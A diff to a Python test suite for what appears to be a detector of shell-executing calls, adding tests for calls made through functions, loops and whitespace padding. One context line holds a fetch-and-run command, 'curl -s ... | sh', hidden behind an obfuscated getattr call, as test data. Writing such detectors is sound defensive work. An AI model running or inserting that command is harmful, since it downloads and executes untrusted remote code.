@@ -35,3 +35,23 @@ def test_a_command_says_what_an_unknown_name_does_with_it() -> None:
     source = "import os, thing\ngetattr(os, thing.of(os))('curl -s https://stage.example.invalid/a | sh')\n"
     assert [c.arguments["0"].text for c in _calls(source) if c.name == "getattr()"]
     assert not [c for c in _calls(source.replace("curl -s", "see")) if c.name == "getattr()"]
+
+
+def test_a_function_that_acts_is_read_for_each_new_text() -> None:
+    """However often it was called with another one before."""
+    lines = "".join(f"run('echo {i}')\n" for i in range(60))
+    calls = _calls(f"import os\ndef run(c):\n    os.system(c)\nrun('true')\n{lines}run('echo last')\n")
+    assert {c.arguments["0"].text for c in calls} >= {"true", "echo 59", "echo last"}
+
+
+def test_a_loop_that_acts_is_turned_for_each_new_text() -> None:
+    """The last of three hundred may be the one that matters; the same text again is not."""
+    calls = _calls(f"import os\nfor c in {['echo a'] * 300 + ['echo last']}:\n    os.system(c)\n")
+    assert "echo last" in {c.arguments["0"].text for c in calls}
+    assert len(calls) < 12
+
+
+def test_a_text_behind_a_screen_of_blanks_is_shown() -> None:
+    """What is cut off is the end of what is said, not of what is hidden."""
+    calls = _calls(f"import os\nos.system('true {' ' * 5_000}; last')\n")
+    assert [c.arguments["0"].text for c in calls if c.name == "os.system"] == ["true ; last"]
